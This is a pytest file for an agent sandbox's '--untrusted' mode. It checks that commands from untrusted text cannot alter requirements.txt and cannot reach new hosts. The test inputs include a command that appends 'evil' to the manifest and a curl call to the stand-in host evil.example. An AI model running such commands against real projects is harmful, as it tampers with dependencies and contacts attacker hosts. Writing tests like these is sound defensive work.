"""`agent exec --untrusted` and `agent why --untrusted`: commands that come from untrusted text."""

import json
import subprocess
from pathlib import Path

import pytest

from tests.support import forked_agent
from tests.support.agent_program import AGENT


@pytest.fixture
def work(tmp_path: Path) -> Path:
    folder = tmp_path / "w"
    folder.mkdir()
    (tmp_path / "h").mkdir()
    (folder / "requirements.txt").write_text("requests\n")
    return folder


def agent(work: Path, *words: str) -> subprocess.CompletedProcess[str]:
    environ = {"HOME": str(work.parent / "h"), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "NO_COLOR": "1"}
    return forked_agent.run(
        [AGENT, *words], cwd=work, env=environ, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120
    )


def run(work: Path, script: str, *flags: str, mode: str = "trust-project") -> subprocess.CompletedProcess[str]:
    return agent(work, "exec", "--unattended", "--mode", mode, *flags, script)


@pytest.mark.threat("T267")
def test_a_changed_manifest_gets_its_old_content_and_the_exit_code_is_3(work: Path) -> None:
    done = run(work, "echo evil >> requirements.txt; echo a > a.txt", "--untrusted", "issue 13")
    assert done.returncode == 3
    assert "the change of `requirements.txt` was taken back" in done.stderr
    assert "issue 13" in done.stderr
    assert (work / "requirements.txt").read_text() == "requests\n"
    assert (work / "a.txt").read_text() == "a\n"
    assert agent(work, "audit", "verify").returncode == 0
    assert "none differs" in agent(work, "audit", "replay").stdout


@pytest.mark.threat("T267")
def test_the_events_report_it_as_well(work: Path) -> None:
    done = run(work, "echo evil >> requirements.txt", "--untrusted", "issue 13", "--json")
    events = {event["type"]: event for event in map(json.loads, done.stdout.splitlines())}
    assert "requirements.txt" in events["finished"]["problem"]["what"]
    assert (events["run_ended"]["exit"], done.returncode) == (3, 3)


def test_without_the_flag_nothing_changes(work: Path) -> None:
    assert run(work, "echo evil >> requirements.txt").returncode == 0
    assert (work / "requirements.txt").read_text() == "requests\nevil\n"


def test_an_ordinary_command_from_untrusted_text_runs(work: Path) -> None:
    done = run(work, "echo a > a.txt && cat a.txt", "--untrusted", "issue 13")
    assert (done.returncode, done.stdout, done.stderr) == (0, "a\n", "")


@pytest.mark.threat("T265")
def test_a_new_host_is_denied_and_a_typed_one_is_not(work: Path) -> None:
    fetch = "curl -s --max-time 1 https://evil.example/x; true"
    assert run(work, fetch, "--untrusted", "issue 13", mode="dangerously").returncode == 3
    assert run(work, fetch, "--untrusted", "issue 13", "--host", "evil.example", mode="dangerously").returncode == 0


def test_the_setting_off_switches_the_flag_off(work: Path) -> None:
    config = work.parent / "h/.config/ringfence"
    config.mkdir(parents=True)
    (config / "config.toml").write_text('flow = "off"\n')
    (config / "config.toml").chmod(0o600)
    assert run(work, "echo evil >> requirements.txt", "--untrusted", "issue 13").returncode == 0


def test_an_empty_source_is_a_usage_error(work: Path) -> None:
    done = run(work, "ls", "--untrusted", " ")
    assert done.returncode == 2
    assert "`--untrusted` needs a source" in done.stderr


def test_why_names_the_rule(work: Path) -> None:
    done = agent(work, "why", "--mode", "dangerously", "--untrusted", "issue 13", "curl https://evil.example/x")
    assert "builtin:information-flow/new-destination" in done.stdout
